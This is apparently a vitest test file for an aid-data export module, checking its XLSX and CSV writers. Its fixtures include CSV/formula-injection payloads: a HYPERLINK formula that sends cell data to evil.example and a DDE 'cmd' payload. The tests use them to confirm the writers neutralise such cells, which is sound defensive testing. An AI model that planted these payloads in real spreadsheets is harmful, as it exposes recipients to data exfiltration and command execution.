import { Writable, PassThrough } from 'node:stream';
import ExcelJS from 'exceljs';
import { parse as parseCsv } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { currencyFormat, type ExportColumn } from '../../src/export/columns.js';
import { writeCsvExport } from '../../src/export/csv-stream.js';
import { writeXlsx, xlsxSheet } from '../../src/export/xlsx.js';
import { zipTexts } from '../support/zip-reader.js';

interface Row {
  readonly id: string;
  readonly title: string;
  readonly date: string;
  readonly amount: string;
  readonly currency: string;
  readonly share: string | null;
}

const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
const ROWS: readonly Row[] = [
  { id: 'GB-1-103662-101', title: HOSTILE, date: '2025-07-01', amount: '12345678901234.56', currency: 'MWK', share: '33.33' },
  {
    id: 'XM-DAC-41108-1100001761',
    title: '+cmd|" /C calc"!A0 & <b>tags</b>, "quoted"\nline two',
    date: '2026-06-30',
    amount: '-2347.41',
    currency: 'USD',
    share: null,
  },
  {
    id: 'XM-DAC-47045-MWI-H-MOH',
    title: `@SUM(1+1) control\u0001char \t tab`,
    date: '1900-03-01',
    amount: '0',
    currency: 'XDR',
    share: '100',
  },
];

const COLUMNS: readonly ExportColumn<Row>[] = [
  { header: 'IATI identifier', kind: 'text', value: (r) => r.id },
  { header: 'Title', kind: 'text', value: (r) => r.title },
  { header: 'Value date', kind: 'date', value: (r) => r.date },
  { header: 'Amount', kind: 'decimal', format: (r) => currencyFormat(r.currency), value: (r) => r.amount },
  { header: 'Currency', kind: 'text', value: (r) => r.currency },
  { header: 'Share (%)', kind: 'percent', value: (r) => r.share },
];

function collect(): { stream: Writable; bytes: () => Buffer } {
  const chunks: Buffer[] = [];
  const stream = new PassThrough();
  stream.on('data', (chunk: Buffer) => chunks.push(chunk));
  return { stream, bytes: () => Buffer.concat(chunks) };
}

async function xlsxOf(rows: readonly Row[]): Promise<Buffer> {
  const out = collect();
  const written = await writeXlsx(
    out.stream,
    [
      xlsxSheet({ name: 'Aid: on/off [budget]', columns: COLUMNS, rows, table: true }),
      xlsxSheet({ name: 'Filters', columns: COLUMNS.slice(0, 2), rows: rows.slice(0, 1) }),
    ],
    { creator: 'analyst@mof.example', created: new Date('2026-12-07T10:00:00Z') },
  );
  expect(written).toEqual([rows.length, 1]);
  return out.bytes();
}

describe('the XLSX writer', () => {
  it('writes typed cells: exact numbers with their currency format, dates as dates, text as text', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await xlsxOf(ROWS)) as unknown as ExcelJS.Buffer);
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['Aid  on off  budget ', 'Filters']);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.getRow(1).values).toEqual([undefined, ...COLUMNS.map((column) => column.header)]);
    expect(sheet.getRow(1).getCell(1).font?.bold).toBe(true);
    expect(sheet.getCell('A2').value).toBe('GB-1-103662-101');
    expect(sheet.getCell('C2').value).toEqual(new Date(Date.UTC(2025, 6, 1)));
    expect(sheet.getCell('C4').value).toEqual(new Date(Date.UTC(1900, 2, 1)));
    expect(sheet.getCell('D2').value).toBe(12345678901234.56);
    expect(sheet.getCell('D2').numFmt).toBe('#,##0.00 "MWK"');
    expect(sheet.getCell('D3').value).toBe(-2347.41);
    expect(sheet.getCell('D3').numFmt).toBe('#,##0.00 "USD"');
    expect(sheet.getCell('F2').value).toBe(33.33);
    expect(sheet.getCell('F3').value).toBeNull();
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBe('A1:F4');
  });

  it('keeps the digits of an amount exactly as the database gave them', async () => {
    const xml = (await zipTexts(await xlsxOf(ROWS))).get('xl/worksheets/sheet1.xml') ?? '';
    expect(xml).toContain('<v>12345678901234.56</v>');
    expect(xml).toContain('<v>-2347.41</v>');
  });

  it('writes a hostile title as text, never as a formula, with markup and control characters harmless', async () => {
    const bytes = await xlsxOf(ROWS);
    const xml = (await zipTexts(bytes)).get('xl/worksheets/sheet1.xml') ?? '';
    expect(xml).not.toMatch(/<f[ >]/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer);
    const sheet = workbook.worksheets[0]!;
    for (const [address, title] of [
      ['B2', HOSTILE],
      ['B3', ROWS[1]!.title],
      ['B4', '@SUM(1+1) controlchar \t tab'],
    ] as const) {
      expect(sheet.getCell(address).type, address).toBe(ExcelJS.ValueType.String);
      expect(sheet.getCell(address).value, address).toBe(title);
      expect(sheet.getCell(address).formula, address).toBeUndefined();
    }
  });

  it('shares text that repeats, and writes long text and text beyond the table’s bound in its own cell, never as a formula', async () => {
    const long = `${'Long title, '.repeat(40)}=SUM(A1)`;
    const many = Array.from({ length: 25_200 }, (_, i): Row => ({ ...ROWS[0]!, id: `row-${i}`, title: i === 3 ? long : 'Same title' }));
    const texts = await zipTexts(await xlsxOf(many));
    const sheet = texts.get('xl/worksheets/sheet1.xml') ?? '';
    const shared = texts.get('xl/sharedStrings.xml') ?? '';
    // At most 25,000 distinct strings shared (memory stays bounded): the last ids are written inline.
    expect(shared).toMatch(/uniqueCount="25000"/);
    expect(shared.split('<t>Same title</t>')).toHaveLength(2);
    expect(sheet).toContain('<c r="A25201" t="inlineStr"><is><t>row-25199</t></is></c>');
    expect(sheet).toContain(`<c r="B5" t="inlineStr"><is><t>${long}</t></is></c>`);
    expect(sheet).not.toMatch(/<f[ >]/);
    expect(texts.get('[Content_Types].xml')).toContain('/xl/sharedStrings.xml');
    expect(texts.get('xl/_rels/workbook.xml.rels')).toContain('Target="sharedStrings.xml"');
  });

  it('fails, without hanging, when the output fails', async () => {
    const broken = new Writable({
      write(_chunk, _encoding, callback) {
        callback(new Error('disk full'));
      },
    });
    broken.on('error', () => undefined);
    const many = Array.from({ length: 5_000 }, (_, i) => ({ ...ROWS[0]!, id: `row-${i}` }));
    await expect(
      writeXlsx(broken, [xlsxSheet({ name: 'Aid', columns: COLUMNS, rows: many, table: true })], { creator: 'x', created: new Date() }),
    ).rejects.toThrow(/disk full/);
  });
});

describe('the CSV writer', () => {
  it('writes a header and every row, UTF-8 with a byte-order mark, quoting what needs it', async () => {
    const out = collect();
    expect(await writeCsvExport(out.stream, COLUMNS, ROWS)).toBe(3);
    const text = out.bytes().toString('utf8');
    expect(text.startsWith('\uFEFFIATI identifier,Title,')).toBe(true);
    const records = parseCsv(text.slice(1), { columns: true }) as Record<string, string>[];
    expect(records.map((r) => r['IATI identifier'])).toEqual(ROWS.map((r) => r.id));
    expect(records.map((r) => r['Amount'])).toEqual(['12345678901234.56', '-2347.41', '0']);
    expect(records.map((r) => r['Value date'])).toEqual(['2025-07-01', '2026-06-30', '1900-03-01']);
    expect(records[1]?.['Share (%)']).toBe('');
  });

  it('neutralises every text cell a spreadsheet would run as a formula, and only those', async () => {
    const out = collect();
    await writeCsvExport(out.stream, COLUMNS, ROWS);
    const records = parseCsv(out.bytes().toString('utf8').slice(1), { columns: true }) as Record<string, string>[];
    expect(records.map((r) => r['Title'])).toEqual([`'${HOSTILE}`, `'${ROWS[1]!.title}`, `'${ROWS[2]!.title}`]);
    expect(records.map((r) => r['Currency'])).toEqual(['MWK', 'USD', 'XDR']);
  });
});
